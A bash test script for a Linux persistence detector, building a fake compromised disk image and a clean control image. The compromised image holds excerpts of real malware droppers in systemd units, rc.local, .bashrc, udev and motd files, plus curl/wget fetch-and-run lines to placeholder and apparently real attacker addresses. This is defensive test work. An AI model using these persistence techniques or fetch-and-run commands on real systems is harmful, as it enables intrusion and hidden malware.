#!/bin/bash
# Start-up file persistence in a disk image (--root; unprivileged is fine).
# The compromised image holds what real droppers write, taken as text from
# the samples in shared/material/scripts (never run): Mirai's
# dnsconfigs.service (/var/tmp/nginx_kel, Restart=always), k4spreader's
# dpkg-deb-package.service (copy /bin/knlib, run the copy, delete it),
# Gelsemium's run-level script and profile.d script (/usr/bin/.Xl1/kde,
# /home/www/.Xl1/kde), Spinning YARN's units (/var/.httpd/...../httpd,
# /var/tmp/.11/sshd), and lines of the Hadooken and Spinning YARN droppers
# (download-and-run, decode-and-run, run-and-delete) placed in rc.local,
# root's .bashrc, a udev rule and a motd script (those droppers use cron
# and systemd; other campaigns use these files, e.g. Perfctl ~/.profile).
# The clean image holds a package-installed ModemManager.service (listed
# in a dpkg file list, on a merged /usr, with its enablement and alias
# links), an admin's own unit, Debian's shell start-up files and udev
# rules, acme.sh's .bashrc line, an rc.local that only exits 0: nothing at
# medium or above, nor do the clean-negative scripts (an SDK's environment
# script, systemd's TEST-07 with here-documents to /tmp) as start-up files.
# Hostile files (3 MiB profile.d script, binary garbage,
# links pointing out of the image) are read within bounds or refused.
. "$(dirname "$0")/lib.sh"
D=$TOP/tests/data/startup
EXC=$D/excerpts.txt
excerpt() {  # FILE-PREFIX: every excerpt of that sample file, in order
	grep -v '^#' "$EXC" | awk -F'|' -v f="$1" 'index($1, f) == 1' | cut -d'|' -f2-
}
S=$TOP/../shared/material/scripts
if [ -d "$S" ]; then
	for f in "$D"/*.txt; do
		b=$(basename "$f")
		[ "$b" = excerpts.txt ] && continue
		src=$(ls "$S"/*/"$b" 2>/dev/null | head -1)
		[ -n "$src" ] || fail "sample $b is missing from $S"
		cmp -s "$f" "$src" || fail "tests/data/startup/$b differs from $src"
	done
	while IFS='|' read -r file line; do
		case $file in '#'*|'') continue ;; esac
		src=$(ls "$S"/*/"$file" 2>/dev/null | head -1)
		[ -n "$src" ] || fail "sample $file is missing from $S"
		grep -qxF -- "$line" "$src" || fail "the excerpt of $file is no longer in it: $line"
	done <"$EXC"
else
	say "note: no shared/material beside the checkout: samples not re-checked"
fi

passwd() {  # R: accounts
	mkdir -p "$1/etc" "$1/root" "$1/home/www" "$1/home/dev"
	cat >"$1/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/bash
daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
www:x:1001:1001::/home/www:/bin/bash
dev:x:1002:1002::/home/dev:/bin/bash
EOF
}
merged_usr() {  # R: /lib -> usr/lib, dpkg lists
	mkdir -p "$1/usr/lib/systemd/system" "$1/var/lib/dpkg/info" \
		"$1/etc/systemd/system/multi-user.target.wants"
	ln -s usr/lib "$1/lib"
	printf '/.\n/bin\n/bin/bash\n/usr/share/doc/bash\n' >"$1/var/lib/dpkg/info/bash.list"
	printf '/bin/kill\n/usr/bin/kill\n' >"$1/var/lib/dpkg/info/procps.list"
}
debian_bashrc() {  # stock ~/.bashrc lines that run things
	cat <<'EOF'
# ~/.bashrc: executed by bash(1) for non-login shells.
case $- in
    *i*) ;;
      *) return;;
esac
HISTCONTROL=ignoreboth
shopt -s histappend
HISTSIZE=1000
HISTFILESIZE=2000
[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
if [ -x /usr/bin/dircolors ]; then
    test -r ~/.dircolors && eval "$(dircolors -b ~/.dircolors)" || eval "$(dircolors -b)"
    alias ls='ls --color=auto'
fi
if [ -f ~/.bash_aliases ]; then
    . ~/.bash_aliases
fi
if ! shopt -oq posix; then
  if [ -f /usr/share/bash-completion/bash_completion ]; then
    . /usr/share/bash-completion/bash_completion
  fi
fi
EOF
}

# ---- a compromised image -------------------------------------------------------
R=$T/bad
passwd "$R"
merged_usr "$R"
sd=$R/etc/systemd/system
cp "$D/2024.Mirai__mirai_dnsconfigs.service.txt" "$sd/dnsconfigs.service"
ln -s /etc/systemd/system/dnsconfigs.service "$sd/multi-user.target.wants/dnsconfigs.service"
cp "$D/2024.k4spreader__dpkg-deb-package.service.txt" "$R/usr/lib/systemd/system/dpkg-deb-package.service"
ln -s /lib/systemd/system/dpkg-deb-package.service "$sd/multi-user.target.wants/dpkg-deb-package.service"
excerpt 2024.Spinning.YARN | sed -n '/^cat >\/tmp\/h.service/,/^EOL$/p' | sed '1d;$d' >"$sd/h.service"
excerpt 2024.Spinning.YARN | sed -n '/^cat >\/tmp\/ext4.service/,/^EOLB$/p' | sed '1d;$d' >"$sd/ext4.service"
grep -q 'ExecStart=/var/.httpd/...../httpd' "$sd/h.service" || fail "test setup: YARN's h.service"
mkdir -p "$R/etc/init.d" "$R/etc/profile.d" "$R/etc/udev/rules.d" "$R/etc/update-motd.d" \
	"$R/etc/systemd/system-generators"
# Gelsemium's S60dlump: an S60 name, as in a run-level directory
mkdir -p "$R/etc/rc.d/rc3.d"
cp "$D/2024.Gelsemium__S60dlump.txt" "$R/etc/rc.d/rc3.d/S60dlump"
cp "$D/2024.Gelsemium__profile.sh.txt" "$R/etc/profile.d/profile.sh"
cp "$D/2024.hadooken__crondr_as_bash.sh.txt" "$R/etc/update-motd.d/50-landscape"
chmod 0755 "$R/etc/rc.d/rc3.d/S60dlump" "$R/etc/update-motd.d/50-landscape"
drop1=$(excerpt 2024.hadooken__drop1)
drop2=$(excerpt 2024.hadooken__drop2)
yarn=$(excerpt 2024.Spinning.YARN | grep -o 'echo Y2Qx[^ ]*|base64 -d|bash|bash')
[ -n "$drop1" ] && [ -n "$drop2" ] && [ -n "$yarn" ] || fail "test setup: dropper lines"
printf '#!/bin/sh -e\n%s\nexit 0\n' "$drop1" >"$R/etc/rc.local"
chmod 0755 "$R/etc/rc.local"
{ debian_bashrc; printf '%s\n' "$drop2"; } >"$R/root/.bashrc"
printf 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c '"'"'%s'"'"'"\n' "$yarn" \
	>"$R/etc/udev/rules.d/99-usb-power.rules"
printf 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nLD_PRELOAD=/usr/local/lib/libsystem.so\n' \
	>"$R/etc/environment"
printf '#!/bin/sh\nexec /usr/bin/true\n' >"$R/etc/systemd/system-generators/net-gen"
chmod 0755 "$R/etc/systemd/system-generators/net-gen"
printf '[Service]\nExecStart=/usr/sbin/cupsd -l\n' >"$sd/cups-helper.service"
chmod 0666 "$sd/cups-helper.service"
# a user unit (Perfctl-style: a hidden program in /dev/shm, restarted)
mkdir -p "$R/home/www/.config/systemd/user/default.target.wants"
printf '[Service]\nExecStart=/dev/shm/.x/kworker -B\nRestart=always\n' \
	>"$R/home/www/.config/systemd/user/dbus-session.service"
# Kinsing's name in /usr/bin, which no package installed, run by a unit
# no package installed (only a note: low); /usr/bin/bash is bash's
# /bin/bash on a merged /usr
mkdir -p "$R/usr/bin"
ln -s usr/bin "$R/bin"
printf '\177ELF' >"$R/usr/bin/kdevtmpfsi"
printf '\177ELF' >"$R/usr/bin/bash"
printf '[Service]\nExecStartPre=/usr/bin/bash --version\nExecStart=/usr/bin/kdevtmpfsi\n' >"$sd/kdevtmpfs.service"
# a unit that spells its shell in full: /bin/sh -c '...'
printf '[Service]\nExecStart=/bin/sh -c '"'"'/dev/shm/.rsync/c 2>/dev/null'"'"'\n' >"$sd/rsync-helper.service"
# an optional environment file in /dev/shm (the "-" prefix)
printf '[Service]\nEnvironmentFile=-/dev/shm/.env\nExecStart=/usr/sbin/cupsd -f\n' >"$sd/cups-env.service"
# a profile.d script another user owns (as root: owners are kept)
printf 'export EDITOR=vim\n' >"$R/etc/profile.d/editor.sh"
[ "$MYUID" -eq 0 ] && chown 1001:1001 "$R/etc/profile.d/editor.sh"
# hostile: 3 MiB, garbage, links out of the image
{ printf 'curl -fsSL http://198.51.100.7/p.sh | sh\n'; head -c 3145728 /dev/zero | tr '\0' '#'; } \
	>"$R/etc/profile.d/huge.sh"
{ printf '\0\1\2'; head -c 4096 /dev/urandom; } >"$R/etc/init.d/garbage"
mkdir -p "$T/outside"
printf '[Service]\nExecStart=/bin/sh -c "wget -q -O- http://203.0.113.9/outsider | sh"\n' >"$T/outside/evil.service"
ln -s "../../../../../../../..$T/outside/evil.service" "$sd/escape.service"
ln -s "$T/outside/evil.service" "$sd/escape2.service"

rm_json "$T/bad.json" --root "$R" --facts
[ "$RC" = 1 ] || fail "a compromised image exits $RC, expected 1"
grep -q outsider "$T/bad.json" && fail "rookmelder read the unit outside the image"

per() {  # RULE FILE [LINE]: exactly one finding; F holds it
	local all n
	all=$(jq -c --arg r "$1" --arg f "$2" --arg l "${3:-}" \
		'[.findings[] | select(.rule.id == $r and .file.path == $f and
		  ($l == "" or (.evidence.line | tostring) == $l))]' "$T/bad.json")
	n=$(jq length <<<"$all")
	[ "$n" = 1 ] || { dump_findings "$T/bad.json" >&2; fail "$n $1 findings for $2${3:+:$3}, expected 1"; }
	F=$(jq -c '.[0]' <<<"$all")
	F_WHAT="$1 for $2${3:+:$3}"
}
# Mirai: once, though enabled by a link in multi-user.target.wants
per RM-PER-004 /etc/systemd/system/dnsconfigs.service
f_eq .evidence.line 8
f_eq .severity high
f_eq .confidence high
f_eq .rule.category persistence
f_eq .evidence.directive ExecStart
f_eq .evidence.command '/var/tmp/nginx_kel sv'
f_eq .evidence.path /var/tmp/nginx_kel
f_eq .evidence.restart always
f_eq .evidence.unit dnsconfigs.service
f_eq .evidence.packaged false
f_eq '.evidence.file_owner_uid | type' number
f_eq '.threat.technique.id | index("T1543.002") != null' true
# k4spreader: in /usr/lib (and /lib, the same directory): once
per RM-PER-004 /usr/lib/systemd/system/dpkg-deb-package.service 8
f_eq .severity high
f_eq .evidence.program klibsystem4
f_eq '.evidence.does | index("delete the program it runs") != null' true
jq_true "$T/bad.json" '[.findings[] | select(.file.path == "/lib/systemd/system/dpkg-deb-package.service")] | length == 0' \
	"k4spreader's unit was read twice through /lib"
# Spinning YARN
per RM-PER-004 /etc/systemd/system/h.service 3
f_eq .severity high
f_eq .evidence.path /var/.httpd/...../httpd
per RM-PER-004 /etc/systemd/system/ext4.service 7
f_eq .severity high
f_eq .evidence.path /var/tmp/.11/sshd
per RM-PER-004 /etc/systemd/system/ext4.service 8
f_eq .severity medium
f_eq .evidence.directive WorkingDirectory
# Gelsemium
per RM-PER-004 /etc/rc.d/rc3.d/S60dlump 2
f_eq .severity high
f_eq .evidence.path /usr/bin/.Xl1/kde
f_eq .evidence.file_kind 'init script'
per RM-PER-004 /etc/profile.d/profile.sh 2
f_eq .severity high
f_eq .evidence.path /home/www/.Xl1/kde
f_eq '.evidence.does | index("run in the background") != null' true
# dropper lines in rc.local, root's .bashrc, udev, motd
per RM-PER-004 /etc/rc.local 2
f_eq .severity high
f_eq .confidence high
f_eq .evidence.url http://89.185.85.102/c
per RM-PER-004 /root/.bashrc 23
f_eq .severity high
f_eq .evidence.user root
f_eq .evidence.url http://185.174.136.204/y
f_eq .evidence.file_kind "user's shell start-up file"
per RM-PER-004 /etc/udev/rules.d/99-usb-power.rules 1
f_eq .severity high
f_eq .evidence.directive RUN
f_eq '.evidence.does | index("decode") != null' true
per RM-PER-004 /etc/update-motd.d/50-landscape 5
f_eq .severity high
f_eq .evidence.program '-bash'
per RM-PER-004 /etc/environment 2
f_eq .severity high
f_eq .evidence.library /usr/local/lib/libsystem.so
per RM-PER-004 /etc/profile.d/huge.sh 1
f_eq .severity high
per RM-PER-004 /etc/systemd/system/kdevtmpfs.service 3
f_eq .severity low
f_eq .evidence.program /usr/bin/kdevtmpfsi
f_eq '.evidence.does | index("run a program no package owns") != null' true
jq_true "$T/bad.json" '[.findings[] | select(.file.path == "/etc/systemd/system/kdevtmpfs.service" and .evidence.line == 2)] | length == 0' \
	"/usr/bin/bash (bash.list names /bin/bash) was called unowned"
per RM-PER-004 /etc/systemd/system/rsync-helper.service 2
f_eq .severity high
f_eq .evidence.path /dev/shm/.rsync/c
f_eq .evidence.program /dev/shm/.rsync/c
per RM-PER-004 /etc/systemd/system/cups-env.service 2
f_eq .severity medium
f_eq .evidence.directive EnvironmentFile
per RM-PER-004 /home/www/.config/systemd/user/dbus-session.service 2
f_eq .severity high
f_eq .evidence.user www
f_eq .evidence.file_kind 'systemd user unit'
# the files themselves
if [ "$MYUID" -eq 0 ]; then
	per RM-PER-005 /etc/profile.d/editor.sh
	f_eq .severity medium
	f_eq .evidence.owner_uid 1001
else
	jq_true "$T/bad.json" '[.findings[] | select(.file.path == "/etc/profile.d/editor.sh")] | length == 0' \
		"an image unpacked by a user: owners were judged"
fi
per RM-PER-005 /etc/systemd/system-generators/net-gen
f_eq .severity high
per RM-PER-005 /etc/systemd/system/cups-helper.service
f_eq .severity high
f_eq .evidence.mode 0666
per RM-PER-005 /etc/init.d/garbage
f_eq .severity high
# the facts: the truncated file said so, the links out refused
sf() { jq -c --arg p "$1" '.facts.startup_files[] | select(.path == $p)' "$T/bad.json"; }
[ "$(sf /etc/profile.d/huge.sh | jq .truncated)" = true ] || fail "the 3 MiB script is not marked truncated: $(sf /etc/profile.d/huge.sh)"
for l in escape escape2; do
	[ "$(sf /etc/systemd/system/$l.service | jq -r '.read_error // "read"')" != read ] ||
		fail "the link out of the image was read: $(sf /etc/systemd/system/$l.service)"
done
[ "$(sf /etc/systemd/system/dnsconfigs.service | jq -r .restart)" = always ] ||
	fail "Restart=always not in the facts: $(sf /etc/systemd/system/dnsconfigs.service)"

# ---- a clean image ---------------------------------------------------------------
C=$T/clean
passwd "$C"
merged_usr "$C"
sd=$C/etc/systemd/system
cp "$D/clean__ModemManager.service.txt" "$C/usr/lib/systemd/system/ModemManager.service"
printf '/lib/systemd/system/ModemManager.service\n/usr/sbin/ModemManager\n' >"$C/var/lib/dpkg/info/modemmanager.list"
ln -s /lib/systemd/system/ModemManager.service "$sd/multi-user.target.wants/ModemManager.service"
ln -s /lib/systemd/system/ModemManager.service "$sd/dbus-org.freedesktop.ModemManager1.service"
mkdir -p "$C/usr/lib/systemd/system/multi-user.target.wants"
ln -s ../ModemManager.service "$C/usr/lib/systemd/system/multi-user.target.wants/ModemManager.service"
ln -s /dev/null "$sd/systemd-timesyncd.service"
cat >"$C/usr/lib/systemd/system/ssh.service" <<'EOF'
[Unit]
Description=OpenBSD Secure Shell server
After=network.target auditd.service
ConditionPathExists=!/etc/ssh/sshd_not_to_be_run

[Service]
EnvironmentFile=-/etc/default/ssh
ExecStartPre=/usr/sbin/sshd -t
ExecStart=/usr/sbin/sshd -D $SSHD_OPTS
ExecReload=/usr/sbin/sshd -t
ExecReload=/bin/kill -HUP $MAINPID
KillMode=process
Restart=on-failure
RuntimeDirectory=sshd

[Install]
WantedBy=multi-user.target
Alias=sshd.service
EOF
printf '/lib/systemd/system/ssh.service\n/usr/sbin/sshd\n' >"$C/var/lib/dpkg/info/openssh-server.list"
ln -s /lib/systemd/system/ssh.service "$sd/sshd.service"
printf '[Timer]\nOnCalendar=*-*-* 6,18:00\nRandomizedDelaySec=12h\nPersistent=true\n' \
	>"$C/usr/lib/systemd/system/apt-daily.timer"
printf '/lib/systemd/system/apt-daily.timer\n' >"$C/var/lib/dpkg/info/apt.list"
mkdir -p "$sd/myapp.service.d"
cat >"$sd/myapp.service" <<'EOF'
[Unit]
Description=My application
[Service]
User=app
WorkingDirectory=/srv/myapp
Environment="NODE_ENV=production" "PORT=8080"
ExecStart=/usr/local/bin/myapp --serve \
    --config /etc/myapp.conf
Restart=always
[Install]
WantedBy=multi-user.target
EOF
printf '[Service]\nEnvironment=LOG_LEVEL=debug\n' >"$sd/myapp.service.d/override.conf"
mkdir -p "$C/home/dev/.config/systemd/user"
printf '[Service]\nExecStart=/home/dev/.nvm/versions/node/v20.11.0/bin/node /home/dev/app/server.js\nRestart=on-failure\n' \
	>"$C/home/dev/.config/systemd/user/app.service"
{
	debian_bashrc
	printf '. "/root/.acme.sh/acme.sh.env"\n'
	printf '. "$HOME/.cargo/env"\n'
	printf 'export PATH="$HOME/.local/bin:$PATH"\n'
	printf 'eval "$(pyenv init -)"\n'
} >"$C/root/.bashrc"
debian_bashrc >"$C/home/dev/.bashrc"
cat >"$C/home/dev/.profile" <<'EOF'
if [ -n "$BASH_VERSION" ]; then
    if [ -f "$HOME/.bashrc" ]; then
	. "$HOME/.bashrc"
    fi
fi
if [ -d "$HOME/bin" ] ; then
    PATH="$HOME/bin:$PATH"
fi
if [ -d "$HOME/.local/bin" ] ; then
    PATH="$HOME/.local/bin:$PATH"
fi
EOF
mkdir -p "$C/etc/profile.d" "$C/etc/init.d" "$C/etc/update-motd.d" "$C/usr/lib/udev/rules.d"
cat >"$C/etc/profile" <<'EOF'
if [ "$(id -u)" -eq 0 ]; then
  PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
else
  PATH="/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games"
fi
export PATH
if [ -d /etc/profile.d ]; then
  for i in $(run-parts --list --regex '^[a-zA-Z0-9_][a-zA-Z0-9._-]*\.sh$' /etc/profile.d); do
    if [ -r $i ]; then
      . $i
    fi
  done
  unset i
fi
EOF
printf 'export PATH=/usr/local/cuda/bin:$PATH CUDA_HOME=/usr/local/cuda\n' >"$C/etc/profile.d/cuda.sh"
# clean negatives where an administrator could put them: an SDK's
# environment script in profile.d, a systemd test script (here-documents
# written to /tmp, commands continued over lines) as a boot script
cp "$D/clean__emscripten.sh.txt" "$C/etc/profile.d/emsdk_env.sh"
mkdir -p "$C/etc/init.d"
cp "$D/clean__TEST-07-PID1.main-PID-change.sh.txt" "$C/etc/init.d/test-mainpid"
printf 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\n' >"$C/etc/environment"
# RHEL's rc.local: a link to rc.d/rc.local, read once
mkdir -p "$C/etc/rc.d"
printf '#!/bin/sh -e\n#\n# rc.local\n#\n# By default this script does nothing.\nexit 0\n' >"$C/etc/rc.d/rc.local"
ln -s rc.d/rc.local "$C/etc/rc.local"
printf '#!/bin/sh\nuname -snrvm\n' >"$C/etc/update-motd.d/10-uname"
cat >"$C/etc/init.d/procps" <<'EOF'
#! /bin/sh
### BEGIN INIT INFO
# Provides:          procps
### END INIT INFO
PATH=/sbin:/bin
SYSCTL=/sbin/sysctl
test -x $SYSCTL || exit 0
. /lib/lsb/init-functions
case "$1" in
       start|restart|force-reload)
               if [ ! -r /etc/sysctl.conf ]
               then
                       exit 0
               fi
               $SYSCTL -q --system
               ;;
esac
exit 0
EOF
chmod 0755 "$C/etc/rc.d/rc.local" "$C/etc/update-motd.d/10-uname" "$C/etc/init.d/procps"
# Debian's run-level links (one dangling, as after a package removal)
mkdir -p "$C/etc/rc2.d" "$C/etc/rcS.d"
ln -s ../init.d/procps "$C/etc/rc2.d/S01procps"
ln -s ../init.d/gone "$C/etc/rcS.d/S01gone"
cat >"$C/usr/lib/udev/rules.d/99-systemd.rules" <<'EOF'
ACTION=="remove", GOTO="systemd_end"
SUBSYSTEM=="tty", KERNEL=="tty[a-zA-Z]*|hvc*|xvc*|hvsi*|ttysclp*|sclp_line*|3270/tty[0-9]*", TAG+="systemd"
KERNEL=="vport*", TAG+="systemd"
SUBSYSTEM=="module", KERNEL=="configfs", RUN+="/bin/mount -t configfs none /sys/kernel/config"
ACTION=="add", SUBSYSTEM=="net", KERNEL!="lo", RUN+="/lib/systemd/systemd-sysctl --prefix=/net/ipv4/conf/$name"
SUBSYSTEM=="block", ENV{DM_UUID}=="CRYPT-*", IMPORT{program}="/sbin/blkid -o udev -p $tempnode", RUN{builtin}+="kmod load $env{MODALIAS}"
LABEL="systemd_end"
EOF
[ -d /usr/lib/udev/rules.d ] && cp /usr/lib/udev/rules.d/*.rules "$C/usr/lib/udev/rules.d/" 2>/dev/null
rm_json "$T/clean.json" --root "$C" --facts
jq_true "$T/clean.json" '[.findings[] | select(.severity != "info" and .severity != "low")] | length == 0' \
	"the clean image has findings: $(dump_findings "$T/clean.json")"
jq_true "$T/clean.json" '[.facts.startup_files[] | select(.path == "/usr/lib/systemd/system/ModemManager.service" and .packaged == true)] | length == 1' \
	"ModemManager.service is not read once, as packaged: $(jq -c '[.facts.startup_files[] | select(.path | test("ModemManager"))]' "$T/clean.json")"
jq_true "$T/clean.json" '[.facts.startup_files[] | select(.path | test("^/etc/rc[0-9S].d/"))] | length == 0' \
	"run-level links were read as files: $(jq -c '[.facts.startup_files[] | select(.path | test("^/etc/rc"))]' "$T/clean.json")"
jq_true "$T/clean.json" '[.facts.startup_files[] | select(.path | test("rc.local$"))] | length == 1' \
	"rc.local and the rc.d/rc.local it links to are not one file: $(jq -c '[.facts.startup_files[] | select(.path | test("rc.local"))]' "$T/clean.json")"
jq_true "$T/clean.json" '[.facts.startup_lines[] | select(.file == "/etc/systemd/system/myapp.service" and .directive == "ExecStart" and (.command | test("--config /etc/myapp.conf")))] | length == 1' \
	"a continued ExecStart line is not joined: $(jq -c '.facts.startup_lines' "$T/clean.json")"
jq_true "$T/clean.json" '[.facts.startup_files[] | select(.path == "/usr/lib/systemd/system/apt-daily.timer" and .timer == "OnCalendar=*-*-* 6,18:00")] | length == 1' \
	"the timer's schedule is not in the facts"

# ---- an immutable unit (as root, where the filesystem has the flag) -----------------
if [ "$MYUID" -eq 0 ] && command -v chattr >/dev/null; then
	I=$T/imm
	mkdir -p "$I/etc/systemd/system"
	printf '[Service]\nExecStart=/usr/sbin/cron -f\n' >"$I/etc/systemd/system/crond.service"
	if chattr +i "$I/etc/systemd/system/crond.service" 2>/dev/null; then
		# the flag comes off whatever the scan does, or $T stays
		(rm_json "$T/imm.json" --root "$I" --facts)
		st=$?
		chattr -i "$I/etc/systemd/system/crond.service"
		[ "$st" = 0 ] || fail "the scan of the immutable unit failed"
		jq_true "$T/imm.json" '[.findings[] | select(.rule.id == "RM-PER-005" and .severity == "medium" and .evidence.immutable == true)] | length == 1' \
			"an immutable unit is not one RM-PER-005 finding: $(dump_findings "$T/imm.json")"
	else
		say "note: chattr +i does not work under $T: immutable files not tested"
	fi
fi

# ---- a directory of more entries than the cap ---------------------------------------
M=$T/many
mkdir -p "$M/etc/profile.d"
(cd "$M/etc/profile.d" && seq 1 4200 | sed 's/$/.sh/' | xargs touch)
rm_json "$T/many.json" --root "$M"
jq_true "$T/many.json" '[.scan.skipped[] | select(.check == "persistence: start-up directories")] | length == 1' \
	"a directory past the cap is not in scan.skipped: $(jq -c .scan.skipped "$T/many.json")"

# ---- an unreadable directory (as a user) ------------------------------------------
if [ "$MYUID" -ne 0 ]; then
	chmod 000 "$C/etc/profile.d"
	rm_json "$T/unread.json" --root "$C"
	chmod 755 "$C/etc/profile.d"
	jq_true "$T/unread.json" '[.scan.skipped[] | select(.check == "persistence: start-up files")] | length == 1' \
		"an unreadable profile.d is not in scan.skipped: $(jq -c .scan.skipped "$T/unread.json")"
fi
finish
